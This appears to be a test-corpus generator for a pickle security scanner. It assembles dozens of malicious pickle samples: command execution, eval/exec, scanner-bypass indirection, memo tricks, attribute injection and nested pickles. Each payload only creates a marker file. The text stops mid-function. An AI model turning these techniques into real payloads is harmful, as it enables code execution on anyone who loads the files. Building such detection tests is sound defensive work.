#!/usr/bin/env python3
"""Generate pickleguard's harmless attack corpus.

    python tests/corpus/gen_attacks.py --out DIR [--only ID ...]

Writes one sample per technique and container into DIR, plus DIR/manifest.json: a list of
entries sorted by file name, each with

    file          the sample's file name inside DIR
    id            the sample id (also the suffix of its marker file)
    technique     short id of the technique
    class         technique class (see CLASSES below)
    container     raw, pytorch_zip, pytorch_legacy, pytorch_tar, joblib, joblib_zlib, ...
    loader        the real loader under which the sample fires ("pickle.loads",
                  "pickle._loads", "pickle.load_stream" (pickle.load repeated until EOF on
                  one file object), "torch.load", "joblib.load", "numpy.load",
                  "pandas.read_pickle", "dill.loads"), or "none"; "<loader>+use": the
                  payload runs on first use, so the verifier loads, then calls fit/transform/
                  inverse_transform on every estimator in the result (deferred calls)
    expect_types  finding types of which `pickleguard scan --mode ml` must report at least one
    fires         true when the verifier must see the payload fire under `loader`
    source        where the technique is publicly described
    requires      Python modules needed to generate the sample and to load it
    note          optional: why a sample does not fire, or a loader quirk worth knowing

Every payload only creates an empty file named `pickleguard-marker-<id>` in the current
working directory (a relative path): `touch pickleguard-marker-<id>` through a shell or an
exec, or `open('pickleguard-marker-<id>', 'w')`. Nothing touches the network and nothing
else is written. Samples that could not be made to do only that are generated with
`fires: false` and are never loaded by the verifier.

Generation is deterministic: no time stamps, no paths, zip dates fixed, every order fixed.
Samples whose library is missing are left out (and listed on stderr); the tests skip them
with a reason.
"""
from __future__ import annotations

import argparse
import base64
import binascii
import bz2
import codecs
import copyreg
import gzip
import importlib.util
import io
import json
import lzma
import marshal
import os
import pathlib
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
import dataclasses
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

MARKER_PREFIX = "pickleguard-marker-"

# Finding types, as in docs/report-schema.md.
DANGEROUS = "DANGEROUS_IMPORT"
UNKNOWN = "UNKNOWN_IMPORT"
REDUCE_CALL = "REDUCE_CALL"
DYNAMIC = "DYNAMIC_CALL"
INJECTION = "ATTRIBUTE_INJECTION"
EXTENSION = "EXTENSION_CODE"
NESTED = "NESTED_PICKLE"
CODE = "CODE_STRING"
OBFUSCATION = "OBFUSCATION"
MALFORMED = "MALFORMED"
UNSCANNABLE = "UNSCANNABLE"
TAMPER = "STRUCTURAL_TAMPER"

# The usual expectation for a payload that imports and calls a known-dangerous callable.
IMPORT_CALL = (DANGEROUS, REDUCE_CALL)
# A gadget outside classic blocklists: `ml` is allowlist-first, so the global is at least
# UNKNOWN_IMPORT, and DANGEROUS_IMPORT where the catalogue knows it.
GADGET = (DANGEROUS, UNKNOWN)

CLASSES = {
    "command_exec": "direct os/posix/nt.system and subprocess.*",
    "builtins": "builtins.eval/exec/compile/__import__/open/getattr",
    "py2_names": "Python 2 module names mapped by fix_imports (__builtin__, commands, copy_reg)",
    "indirection": "callables obtained at load time (getattr, importlib, pkgutil, pydoc, operator, functools, map/filter)",
    "memo": "global names fetched from the memo / computed at load time",
    "dotted_names": "dotted names that reach a module through another one",
    "attribute_injection": "BUILD / __setstate__ attribute injection",
    "opcode_variants": "INST / OBJ / NEWOBJ / NEWOBJ_EX / copyreg reconstructors",
    "extension_codes": "EXT1/2/4 after copyreg.add_extension",
    "nested": "nested pickle.loads / _pickle.loads / Unpickler / marshal code objects",
    "obfuscation": "base64 / zlib / hex / rot13 / joined code strings",
    "gadget": "code-execution gadgets outside blocklists",
    "stream": "protocol variants, framing, nesting, size, broken and concatenated streams",
    "container": "payloads inside the files ML libraries write",
    "serializer": "payloads produced by dill and cloudpickle",
    "parser_differential": "files that a scanner and the loader read differently",
}


def marker(sid: str) -> str:
    return MARKER_PREFIX + sid


def shell_cmd(sid: str) -> str:
    return "touch " + marker(sid)


def py_code(sid: str) -> str:
    return "open(%r, 'w').close()" % marker(sid)


# ---------------------------------------------------------------------------------------------
# A tiny pickle assembler
# ---------------------------------------------------------------------------------------------

class Expr:
    """A value to be emitted into a pickle: wraps a function `emit(asm)`."""

    def __init__(self, emit: Callable[["Asm"], None]):
        self.emit = emit


def G(module: str, name: str) -> Expr:
    """The global module.name through GLOBAL (protocols 0-3) or STACK_GLOBAL (4+)."""
    return Expr(lambda a: a.global_(module, name))


def CALL(fn, *args) -> Expr:
    """fn(*args) through REDUCE. fn and every argument are literals or Exprs."""

    def emit(a: "Asm"):
        a.value(fn)
        a.tuple_(args)
        a.op(b"R")

    return Expr(emit)


def GETATTR(obj, name: str) -> Expr:
    return CALL(G("builtins", "getattr"), obj, name)


def RAW(data: bytes) -> Expr:
    return Expr(lambda a: a.op(data))


class Asm:
    """Appends pickle opcodes to a buffer. Values are emitted the way CPython's pickler of
    the chosen protocol would write them, so streams look ordinary apart from the attack."""

    def __init__(self, proto: int = 2, header: bool = True):
        self.proto = proto
        self.buf = bytearray()
        self.memo_next = 0
        if header and proto >= 2:
            self.op(b"\x80" + bytes([proto]))

    # -- raw ----------------------------------------------------------------------------------
    def op(self, data: bytes) -> "Asm":
        self.buf += data
        return self

    def bytes(self) -> bytes:
        return bytes(self.buf)

    def stop(self) -> bytes:
        self.op(b".")
        return self.bytes()

    # -- values -------------------------------------------------------------------------------
    def global_(self, module: str, name: str) -> "Asm":
        if self.proto >= 4:
            self.str_(module).str_(name).op(b"\x93")
        else:
            self.op(b"c" + module.encode() + b"\n" + name.encode() + b"\n")
        return self

    def str_(self, s: str) -> "Asm":
        if self.proto == 0:
            return self.op(b"V" + s.encode("raw_unicode_escape") + b"\n")
        data = s.encode("utf-8", "surrogatepass")
        if self.proto >= 4 and len(data) < 256:
            return self.op(b"\x8c" + bytes([len(data)]) + data)
        return self.op(b"X" + struct.pack("<I", len(data)) + data)

    def bytes_(self, b: bytes) -> "Asm":
        if self.proto == 0:
            raise ValueError("bytes need protocol 1+ in this assembler")
        if len(b) < 256:
            return self.op(b"C" + bytes([len(b)]) + b)
        if len(b) < 2**32:
            return self.op(b"B" + struct.pack("<I", len(b)) + b)
        return self.op(b"\x8e" + struct.pack("<Q", len(b)) + b)

    def int_(self, n: int) -> "Asm":
        if self.proto == 0:
            return self.op(b"I%d\n" % n)
        if 0 <= n < 256:
            return self.op(b"K" + bytes([n]))
        if 0 <= n < 65536:
            return self.op(b"M" + struct.pack("<H", n))
        if -(2**31) <= n < 2**31:
            return self.op(b"J" + struct.pack("<i", n))
        raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
        if self.proto >= 2:
            return self.op(b"\x8a" + bytes([len(raw)]) + raw)
        return self.op(b"L%dL\n" % n)

    def tuple_(self, items) -> "Asm":
        items = tuple(items)
        if self.proto >= 2 and len(items) <= 3:
            if not items:
                return self.op(b")")
            for it in items:
                self.value(it)
            return self.op(bytes([0x84 + len(items)]))  # TUPLE1..3
        if self.proto >= 1 and not items:
            return self.op(b")")
        self.op(b"(")
        for it in items:
            self.value(it)
        return self.op(b"t")

    def list_(self, items) -> "Asm":
        if self.proto == 0:
            self.op(b"(l")
            for it in items:
                self.value(it)
                self.op(b"a")
            return self
        self.op(b"]")
        if items:
            self.op(b"(")
            for it in items:
                self.value(it)
            self.op(b"e")
        return self

    def dict_(self, d: dict) -> "Asm":
        if self.proto == 0:
            self.op(b"(d")
            for k, v in d.items():
                self.value(k)
                self.value(v)
                self.op(b"s")
            return self
        self.op(b"}")
        if d:
            self.op(b"(")
            for k, v in d.items():
                self.value(k)
                self.value(v)
            self.op(b"u")
        return self

    def value(self, v) -> "Asm":
        if isinstance(v, Expr):
            v.emit(self)
        elif v is None:
            self.op(b"N")
        elif isinstance(v, bool):
            if self.proto >= 2:
                self.op(b"\x88" if v else b"\x89")
            else:
                self.op(b"I01\n" if v else b"I00\n")
        elif isinstance(v, int):
            self.int_(v)
        elif isinstance(v, str):
            self.str_(v)
        elif isinstance(v, (bytes, bytearray)):
            self.bytes_(bytes(v))
        elif isinstance(v, tuple):
            self.tuple_(v)
        elif isinstance(v, list):
            self.list_(v)
        elif isinstance(v, dict):
            self.dict_(v)
        else:
            raise TypeError(type(v))
        return self

    def emit(self, *values) -> "Asm":
        for v in values:
            self.value(v)
        return self

    # -- memo ---------------------------------------------------------------------------------
    def put(self, idx: int | None = None) -> int:
        """Memoize the top of the stack (PUT / BINPUT / LONG_BINPUT / MEMOIZE)."""
        if idx is None:
            idx = self.memo_next
        if self.proto >= 4 and idx == self.memo_next:
            self.op(b"\x94")
        elif self.proto == 0:
            self.op(b"p%d\n" % idx)
        elif idx < 256:
            self.op(b"q" + bytes([idx]))
        else:
            self.op(b"r" + struct.pack("<I", idx))
        self.memo_next = max(self.memo_next, idx + 1)
        return idx

    def get(self, idx: int) -> "Asm":
        if self.proto == 0:
            return self.op(b"g%d\n" % idx)
        if idx < 256:
            return self.op(b"h" + bytes([idx]))
        return self.op(b"j" + struct.pack("<I", idx))


def frame(body: bytes) -> bytes:
    """A protocol 4+ FRAME opcode holding `body`."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


def simple(proto: int, expr: Expr, header: bool = True) -> bytes:
    return Asm(proto, header).emit(expr).stop()


def system_call(sid: str, proto: int = 2, module: str = "os") -> bytes:
    return simple(proto, CALL(G(module, "system"), shell_cmd(sid)))


# Objects whose __reduce__ is the payload, for samples made by the real libraries.
class SystemPayload:
    def __init__(self, sid: str):
        self.sid = sid

    def __reduce__(self):
        return (os.system, (shell_cmd(self.sid),))


class CallOnLoad:
    """Pickles as `fn()`: the function is rebuilt by the serializer, then called."""

    def __init__(self, fn):
        self.fn = fn

    def __reduce__(self):
        return (self.fn, ())


def marker_function(sid: str):
    """A plain function whose body creates the marker. Its module is not importable and its
    file name is fixed, so dill and cloudpickle pickle it by value, deterministically."""
    ns = {"__name__": "pickleguard_corpus_payload"}
    src = "def payload():\n    open(%r, 'w').close()\n" % marker(sid)
    exec(compile(src, "<pickleguard-corpus>", "exec"), ns)
    return ns["payload"]


# ---------------------------------------------------------------------------------------------
# Zip helpers (fixed dates, full control over local and central headers)
# ---------------------------------------------------------------------------------------------

@dataclass
class ZipMember:
    name: str
    data: bytes
    local_name: str | None = None   # name written in the local header (default: name)
    in_central: bool = True          # False: an orphan local entry, absent from the directory
    crc: int | None = None           # force a (wrong) CRC-32 in both headers
    flags: int = 0                   # general purpose bit flags, both headers
    align: int = 64                  # pad the local extra field so data is aligned (as torch)
    version: int = 20                # "version needed to extract" in the central directory


def build_zip(members: list[ZipMember], prefix: bytes = b"") -> bytes:
    """A stored (uncompressed) zip, date 1980-01-01, with the given quirks."""
    out = bytearray(prefix)
    central = bytearray()
    count = 0
    for m in members:
        lname = (m.local_name if m.local_name is not None else m.name).encode()
        crc = zlib.crc32(m.data) if m.crc is None else m.crc
        offset = len(out)
        header_len = 30 + len(lname)
        extra = b""
        if m.align:
            pad = (-(offset + header_len + 4)) % m.align
            extra = struct.pack("<HH", 0x4B46, pad) + b"Z" * pad  # torch's "FB" padding
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, m.flags, 0, 0, 0x21, crc,
            len(m.data), len(m.data), len(lname), len(extra),
        )
        out += lname + extra + m.data
        if m.in_central:
            cname = m.name.encode()
            central += struct.pack(
                "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, m.version, m.flags, 0, 0, 0x21, crc,
                len(m.data), len(m.data), len(cname), 0, 0, 0, 0, 0, offset,
            )
            central += cname
            count += 1
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), cd_offset, 0)
    return bytes(out)


def zip_members(data: bytes) -> list[ZipMember]:
    """The members of an ordinary zip (e.g. from torch.save), in file order."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        infos = sorted(z.infolist(), key=lambda i: i.header_offset)
        return [ZipMember(i.filename, z.read(i.filename)) for i in infos]


def fixed_zip(members: list[tuple[str, bytes]], compression=zipfile.ZIP_STORED) -> bytes:
    """A zip made by Python's zipfile with fixed dates (for npz and plain zips)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = compression
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------
# Sample registry
# ---------------------------------------------------------------------------------------------

@dataclass
class Sample:
    id: str
    cls: str
    make: Callable  # make(sid) -> bytes   or   make(sid, path) -> None when writes_file
    ext: str = ".pkl"
    container: str = "raw"
    loader: str = "pickle.loads"
    expect: tuple = IMPORT_CALL
    fires: bool = True
    source: str = "classic"
    requires: tuple = ()
    note: str | None = None
    technique: str | None = None
    writes_file: bool = False

    @property
    def file(self) -> str:
        return self.id + self.ext

    def entry(self) -> dict:
        e = {
            "file": self.file,
            "id": self.id,
            "technique": self.technique or self.id,
            "class": self.cls,
            "container": self.container,
            "loader": self.loader,
            "expect_types": list(self.expect),
            "fires": self.fires,
            "source": self.source,
            "requires": list(self.requires),
        }
        if self.note:
            e["note"] = self.note
        return e


SAMPLES: list[Sample] = []

LOADER_MODULES = {
    "torch.load": ("torch",),
    "joblib.load": ("joblib", "numpy"),
    "numpy.load": ("numpy",),
    "pandas.read_pickle": ("pandas",),
    "dill.loads": ("dill",),
}


def sample(cls: str, **kw):
    """Register `fn(sid) -> bytes` (or `fn(sid, path)` with writes_file=True) as a sample
    whose id is the function's name."""

    def deco(fn):
        sid = fn.__name__
        assert cls in CLASSES, cls
        req = tuple(kw.pop("requires", ()))
        for m in LOADER_MODULES.get(kw.get("loader", "pickle.loads"), ()):
            if m not in req:
                req += (m,)
        assert all(s.id != sid for s in SAMPLES), sid
        SAMPLES.append(Sample(id=sid, cls=cls, make=fn, requires=req, **kw))
        return fn

    return deco


# =============================================================================================
# command_exec: direct os / posix / nt / subprocess
# =============================================================================================

@sample("command_exec", source="classic (pickle docs warning; every scanner's first test)")
def os_system(sid):
    return system_call(sid, 2, "os")


@sample("command_exec", source="classic (what pickle writes for os.system on Linux)")
def posix_system(sid):
    return simple(0, CALL(G("posix", "system"), shell_cmd(sid)))


@sample("command_exec", fires=False, source="classic (what pickle writes for os.system on Windows)",
        note="the nt module exists only on Windows; fires there, ImportError elsewhere")
def nt_system(sid):
    return system_call(sid, 2, "nt")


@sample("command_exec", source="classic")
def os_popen(sid):
    return simple(2, CALL(GETATTR(CALL(G("os", "popen"), shell_cmd(sid)), "read")))


@sample("command_exec", source="classic (exec family replaces the loading process)")
def os_execlp(sid):
    return simple(2, CALL(G("os", "execlp"), "touch", "touch", marker(sid)))


@sample("command_exec", source="classic")
def os_spawnlp(sid):
    return simple(2, CALL(G("os", "spawnlp"), 0, "touch", "touch", marker(sid)))  # P_WAIT


@sample("command_exec", source="classic")
def os_posix_spawnp(sid):
    return simple(2, CALL(G("os", "posix_spawnp"), "touch", ["touch", marker(sid)], {}))


@sample("command_exec", source="classic")
def subprocess_call(sid):
    return simple(2, CALL(G("subprocess", "call"), ["touch", marker(sid)]))


@sample("command_exec", source="classic")
def subprocess_check_output(sid):
    return simple(2, CALL(G("subprocess", "check_output"), ["touch", marker(sid)]))


@sample("command_exec", source="classic")
def subprocess_run(sid):
    return simple(2, CALL(G("subprocess", "run"), ["touch", marker(sid)]))


@sample("command_exec", source="classic", note="Popen returns at once: the marker may appear a moment later")
def subprocess_popen(sid):
    return simple(2, CALL(G("subprocess", "Popen"), ["touch", marker(sid)]))


@sample("command_exec", source="classic")
def subprocess_getoutput(sid):
    return simple(2, CALL(G("subprocess", "getoutput"), shell_cmd(sid)))


# =============================================================================================
# builtins: eval / exec / compile / __import__ / open / getattr
# =============================================================================================

@sample("builtins", expect=(CODE, DANGEROUS), source="classic")
def builtins_eval(sid):
    return simple(2, CALL(G("builtins", "eval"), py_code(sid)))


@sample("builtins", expect=(CODE, DANGEROUS), source="classic")
def builtins_exec(sid):
    return simple(2, CALL(G("builtins", "exec"), py_code(sid)))


@sample("builtins", expect=(CODE, DANGEROUS), source="classic")
def builtins_compile_exec(sid):
    code = CALL(G("builtins", "compile"), py_code(sid), "<x>", "exec")
    return simple(2, CALL(G("builtins", "exec"), code))


@sample("builtins", expect=(DYNAMIC,), source="classic (fickling docs: __import__ + getattr)")
def builtins_import_getattr(sid):
    system = GETATTR(CALL(G("builtins", "__import__"), "os"), "system")
    return simple(2, CALL(system, shell_cmd(sid)))


@sample("builtins", expect=(DANGEROUS,), source="classic (file write through open)")
def builtins_open(sid):
    return simple(2, CALL(G("builtins", "open"), marker(sid), "w"))


@sample("builtins", expect=(DANGEROUS, UNKNOWN), source="file write through io internals")
def io_fileio(sid):
    return simple(2, CALL(G("_io", "FileIO"), marker(sid), "w"))


@sample("builtins", expect=(DANGEROUS, UNKNOWN, DYNAMIC), source="file write through pathlib")
def pathlib_touch(sid):
    path = CALL(G("pathlib", "Path"), marker(sid))
    return simple(2, CALL(GETATTR(path, "touch")))


@sample("builtins", expect=(DYNAMIC,), source="classic (getattr on a module fetched from sys.modules)")
def sys_modules_getitem(sid):
    os_mod = CALL(G("operator", "getitem"), G("sys", "modules"), "os")
    return simple(2, CALL(GETATTR(os_mod, "system"), shell_cmd(sid)))


# =============================================================================================
# py2_names: __builtin__, commands, copy_reg (CPython's fix_imports maps them for protocol < 3)
# =============================================================================================

@sample("py2_names", expect=(CODE, DANGEROUS), source="classic (Python 2 pickles; _compat_pickle)")
def py2_builtin_eval(sid):
    # c__builtin__\neval\n(V...\ntR.  -- protocol 0, no PROTO opcode
    return simple(0, CALL(G("__builtin__", "eval"), py_code(sid)))


@sample("py2_names", expect=(DYNAMIC, DANGEROUS), source="classic (Python 2 pickles; _compat_pickle)")
def py2_builtin_getattr_proto2(sid):
    system = GETATTR(CALL(G("__builtin__", "__import__"), "os"), "system")
    return simple(2, CALL(system, shell_cmd(sid)))


@sample("py2_names", source="classic (commands.getoutput, mapped to subprocess by _compat_pickle)")
def py2_commands_getoutput(sid):
    return simple(0, CALL(G("commands", "getoutput"), shell_cmd(sid)))


# =============================================================================================
# indirection: callables produced at load time
# =============================================================================================

@sample("indirection", expect=(DYNAMIC,), source="picklescan/fickling bypass write-ups (importlib)")
def importlib_import_module(sid):
    os_mod = CALL(G("importlib", "import_module"), "os")
    return simple(2, CALL(GETATTR(os_mod, "system"), shell_cmd(sid)))


@sample("indirection", expect=(DYNAMIC,), source="picklescan advisory (pkgutil.resolve_name bypass, 2025)")
def pkgutil_resolve_name(sid):
    return simple(2, CALL(CALL(G("pkgutil", "resolve_name"), "os:system"), shell_cmd(sid)))


@sample("indirection", expect=(DYNAMIC,), source="picklescan advisory (pydoc.locate bypass, 2025)")
def pydoc_locate(sid):
    return simple(2, CALL(CALL(G("pydoc", "locate"), "os.system"), shell_cmd(sid)))


@sample("indirection", expect=(DYNAMIC,), source="picklescan advisory (operator.attrgetter bypass, 2025)")
def operator_attrgetter(sid):
    getter = CALL(G("operator", "attrgetter"), "system")
    system = CALL(getter, CALL(G("importlib", "import_module"), "os"))
    return simple(2, CALL(system, shell_cmd(sid)))


@sample("indirection", expect=(DYNAMIC,), source="picklescan advisory (operator.methodcaller bypass, 2025)")
def operator_methodcaller(sid):
    caller = CALL(G("operator", "methodcaller"), "system", shell_cmd(sid))
    return simple(2, CALL(caller, CALL(G("importlib", "import_module"), "os")))


@sample("indirection", expect=(DANGEROUS,), source="operator.call (Python 3.11+) as a call trampoline")
def operator_call(sid):
    return simple(2, CALL(G("operator", "call"), G("os", "system"), shell_cmd(sid)))


@sample("indirection", expect=(DYNAMIC,), source="fickling docs / picklescan bypasses (functools.partial)")
def functools_partial(sid):
    bound = CALL(G("functools", "partial"), G("os", "system"), shell_cmd(sid))
    return simple(2, CALL(bound))


@sample("indirection", expect=(DANGEROUS,), source="JFrog blog 2024 (list(map(os.system, ...)))")
def map_system(sid):
    it = CALL(G("builtins", "map"), G("os", "system"), [shell_cmd(sid)])
    return simple(2, CALL(G("builtins", "list"), it))


@sample("indirection", expect=(DANGEROUS,), source="JFrog blog 2024 (filter variant)")
def filter_system(sid):
    it = CALL(G("builtins", "filter"), G("os", "system"), [shell_cmd(sid)])
    return simple(2, CALL(G("builtins", "list"), it))


@sample("indirection", expect=(DANGEROUS,), source="itertools.starmap trampoline")
def starmap_system(sid):
    it = CALL(G("itertools", "starmap"), G("os", "system"), [(shell_cmd(sid),)])
    return simple(2, CALL(G("builtins", "list"), it))


# =============================================================================================
# memo: names that reach STACK_GLOBAL through the memo or from calls
# =============================================================================================

@sample("memo", expect=(DANGEROUS,), source="picklescan issue (STACK_GLOBAL operands from BINGET)")
def memo_stack_global(sid):
    a = Asm(4, header=False)
    a.str_("os"); a.put(); a.op(b"0")          # memo[0] = 'os'
    a.str_("system"); a.put(); a.op(b"0")      # memo[1] = 'system'
    a.emit([1, 2, 3]).op(b"0")                  # some unrelated data
    a.get(0).get(1).op(b"\x93")                 # STACK_GLOBAL from the memo
    a.tuple_((shell_cmd(sid),)).op(b"R")
    return b"\x80\x04" + frame(a.stop())


@sample("memo", expect=(DANGEROUS,), source="memo juggling: pushed names are not the resolved ones")
def memo_overwrite(sid):
    a = Asm(4, header=False)
    a.str_("collections"); a.put(0); a.op(b"0")
    a.str_("OrderedDict"); a.put(1); a.op(b"0")
    a.get(0).get(1).op(b"\x93").op(b")R0")       # a harmless OrderedDict() from memo 0/1
    a.str_("os"); a.put(0); a.op(b"0")            # BINPUT 0 again: overwrites 'collections'
    a.op(b"\x8c\x06system\x94")                   # MEMOIZE: lands on index 2, not 1
    a.op(b"0")
    a.get(0).get(2).op(b"\x93")                   # resolves os.system
    a.tuple_((shell_cmd(sid),)).op(b"R")
    return b"\x80\x04" + frame(a.stop())


@sample("memo", expect=(DANGEROUS,), source="protocol 0 PUT/GET indices parsed by int(): '1_0', '+3', ' 7'")
def memo_text_index(sid):
    # PUT/GET take any text that Python's int() accepts: underscores, signs, spaces, zeros.
    # A scanner that keys the memo by the literal text sees five different indices.
    body = (
        b"Vos\np1_0\n0"             # memo[10] = 'os'
        b"Vsystem\np+3\n0"          # memo[3]  = 'system'
        b"Vcollections\np10\n0"     # memo[10] = 'collections'
        b"Vos\np 0010\n0"           # memo[10] = 'os' again
        b"g010\ng 3\n\x93"          # GET 10, GET 3, STACK_GLOBAL -> os.system (the C unpickler
        b"(V" + shell_cmd(sid).encode() + b"\ntR."  # does not check the protocol per opcode)
    )
    return body


@sample("memo", expect=(DYNAMIC, OBFUSCATION, DANGEROUS), source="STACK_GLOBAL operands computed at load time")
def stack_global_computed(sid):
    a = Asm(4, header=False)
    a.emit(CALL(G("_codecs", "decode"), codecs.encode("os", "rot13"), "rot13"))
    a.emit(CALL(G("_codecs", "decode"), codecs.encode("system", "rot13"), "rot13"))
    a.op(b"\x93")
    a.tuple_((shell_cmd(sid),)).op(b"R")
    return b"\x80\x04" + frame(a.stop())


@sample("memo", expect=(DANGEROUS,), source="LONG_BINPUT / LONG_BINGET with a sparse index")
def memo_long_index(sid):
    a = Asm(2)
    a.str_("os").op(b"r" + struct.pack("<I", 70000)).op(b"0")
    a.str_("system").op(b"r" + struct.pack("<I", 3)).op(b"0")
    a.op(b"j" + struct.pack("<I", 70000)).op(b"j" + struct.pack("<I", 3)).op(b"\x93")
    a.tuple_((shell_cmd(sid),)).op(b"R")
    return a.stop()


# =============================================================================================
# dotted_names: module attribute walks (protocol 4+ resolves dotted names with getattr)
# =============================================================================================

@sample("dotted_names", expect=(DANGEROUS,), source="picklescan advisory (tempfile._os.system via STACK_GLOBAL)")
def dotted_tempfile_os(sid):
    return b"\x80\x04" + frame(Asm(4, header=False).emit(CALL(G("tempfile", "_os.system"), shell_cmd(sid))).stop())


@sample("dotted_names", expect=(DANGEROUS,), source="GLOBAL opcode with a dotted name under PROTO 4")
def dotted_global_opcode(sid):
    # find_class uses the stream's protocol, not the opcode: GLOBAL walks dots after PROTO 4.
    return b"\x80\x04c" + b"shutil\nos.system\n" + Asm(4, header=False).tuple_((shell_cmd(sid),)).op(b"R").stop()


@sample("dotted_names", expect=(DANGEROUS,), requires=("torch",),
        source="JFrog blog 2024 / picklescan advisory (torch.serialization.os.system)")
def dotted_torch_serialization_os(sid):
    return simple(4, CALL(G("torch.serialization", "os.system"), shell_cmd(sid)))


@sample("dotted_names", expect=(DANGEROUS, DYNAMIC), source="module reached through another module's attribute")
def module_attr_global(sid):
    # GLOBAL tempfile _os -> the os module itself, no dots needed.
    return simple(2, CALL(GETATTR(G("tempfile", "_os"), "system"), shell_cmd(sid)))


# =============================================================================================
# attribute_injection: BUILD / __setstate__
# =============================================================================================

@sample("attribute_injection", expect=(INJECTION,), source="fickling docs / Trail of Bits (BUILD sets __setstate__)")
def build_setstate_dict(sid):
    # od = OrderedDict(); od.__dict__['__setstate__'] = os.system; BUILD 'touch ...' calls it
    a = Asm(2)
    a.emit(CALL(G("collections", "OrderedDict")))
    a.dict_({"__setstate__": G("os", "system")}).op(b"b")
    a.str_(shell_cmd(sid)).op(b"b")
    return a.stop()


@sample("attribute_injection", expect=(INJECTION,), source="fickling docs (BUILD slot state setattr)")
def build_setstate_slotstate(sid):
    a = Asm(2)
    a.emit(CALL(G("argparse", "Namespace")))
    a.tuple_((None, {"__setstate__": G("os", "system")})).op(b"b")
    a.str_(shell_cmd(sid)).op(b"b")
    return a.stop()


@sample("attribute_injection", expect=(INJECTION,), source="BUILD on a class: poisons every later instance")
def build_class_setstate(sid):
    # setattr(fractions.Fraction, '__setstate__', os.system), then BUILD a new Fraction.
    a = Asm(2)
    a.emit(G("fractions", "Fraction"))
    a.tuple_((None, {"__setstate__": G("os", "system")})).op(b"b0")
    a.emit(G("fractions", "Fraction")).op(b")\x81")      # NEWOBJ Fraction()
    a.str_(shell_cmd(sid)).op(b"b")
    return a.stop()


@sample("attribute_injection", expect=(INJECTION,), source="BUILD on a module: a harmless-looking name becomes os.system")
def build_module_poison(sid):
    # pickle.codecs is the codecs module; BUILD updates its __dict__: codecs.encode = os.system
    a = Asm(2)
    a.emit(G("pickle", "codecs"))
    a.dict_({"encode": G("os", "system")}).op(b"b0")
    a.emit(CALL(G("codecs", "encode"), shell_cmd(sid)))
    return a.stop()


# =============================================================================================
# opcode_variants: INST / OBJ / NEWOBJ / NEWOBJ_EX / reconstructors
# =============================================================================================

@sample("opcode_variants", source="classic (INST calls a non-class with the marked arguments)")
def inst_os_system(sid):
    return b"(V" + shell_cmd(sid).encode() + b"\nios\nsystem\n."


@sample("opcode_variants", source="classic (OBJ)")
def obj_os_system(sid):
    a = Asm(1)
    a.op(b"(").emit(G("os", "system")).str_(shell_cmd(sid)).op(b"o")
    return a.stop()


@sample("opcode_variants", expect=(DANGEROUS,), source="NEWOBJ: tuple.__new__ consumes a map iterator")
def newobj_tuple_map(sid):
    it = CALL(G("builtins", "map"), G("os", "system"), [shell_cmd(sid)])
    a = Asm(2)
    a.emit(G("builtins", "tuple")).tuple_((it,)).op(b"\x81")
    return a.stop()


@sample("opcode_variants", expect=(DANGEROUS,), source="NEWOBJ_EX: frozenset.__new__ consumes a map iterator")
def newobj_ex_frozenset_map(sid):
    it = CALL(G("builtins", "map"), G("subprocess", "call"), [["touch", marker(sid)]])
    a = Asm(4, header=False)
    a.emit(G("builtins", "frozenset")).tuple_((it,)).dict_({}).op(b"\x92")
    return b"\x80\x04" + frame(a.stop())


@sample("opcode_variants", expect=(DANGEROUS,),
        source="copyreg._reconstructor runs base.__init__ (CPython copyreg.py)",
        note="Popen returns at once: the marker may appear a moment later")
def reconstructor_popen(sid):
    # copy_reg._reconstructor(Popen, Popen, [...]) -> Popen.__init__(obj, ['touch', ...])
    return simple(0, CALL(G("copy_reg", "_reconstructor"), G("subprocess", "Popen"),
                          G("subprocess", "Popen"), ["touch", marker(sid)]))


# =============================================================================================
# extension_codes: EXT1/2/4 after copyreg.add_extension in the same stream
# =============================================================================================

def _ext_sample(sid: str, code: int, opcode: bytes, reg_module: str = "copyreg") -> bytes:
    a = Asm(2)
    a.emit(CALL(G(reg_module, "add_extension"), "os", "system", code)).op(b"0")
    a.op(opcode)
    a.tuple_((shell_cmd(sid),)).op(b"R")
    return a.stop()


@sample("extension_codes", expect=(EXTENSION,), source="pickletools docs (EXT1) / fickling docs")
def ext1_add_extension(sid):
    return _ext_sample(sid, 0xF1, b"\x82\xf1")


@sample("extension_codes", expect=(EXTENSION,), source="pickletools docs (EXT2), Python 2 copy_reg spelling")
def ext2_copy_reg(sid):
    return _ext_sample(sid, 0x1234, b"\x83" + struct.pack("<H", 0x1234), "copy_reg")


@sample("extension_codes", expect=(EXTENSION,), source="pickletools docs (EXT4)")
def ext4_add_extension(sid):
    return _ext_sample(sid, 0x12345678, b"\x84" + struct.pack("<i", 0x12345678))


# =============================================================================================
# nested: pickles and code objects inside pickles
# =============================================================================================

def _inner(sid: str) -> bytes:
    return system_call(sid, 2, "os")


@sample("nested", expect=(NESTED,), source="classic (pickle.loads(b'...') in a pickle)")
def nested_pickle_loads(sid):
    return simple(3, CALL(G("pickle", "loads"), _inner(sid)))


@sample("nested", expect=(NESTED,), source="picklescan advisory (_pickle.loads)")
def nested_c_pickle_loads(sid):
    return simple(3, CALL(G("_pickle", "loads"), _inner(sid)))


@sample("nested", expect=(NESTED, DYNAMIC), source="nested Unpickler(BytesIO(...)).load()")
def nested_unpickler_load(sid):
    up = CALL(G("pickle", "Unpickler"), CALL(G("_io", "BytesIO"), _inner(sid)))
    return simple(3, CALL(GETATTR(up, "load")))


@sample("nested", expect=(NESTED,), source="nesting three levels deep")
def nested_three_levels(sid):
    level2 = simple(3, CALL(G("pickle", "loads"), _inner(sid)))
    level1 = simple(3, CALL(G("_pickle", "loads"), level2))
    return simple(3, CALL(G("pickle", "loads"), level1))


def _code_bytes(sid: str) -> bytes:
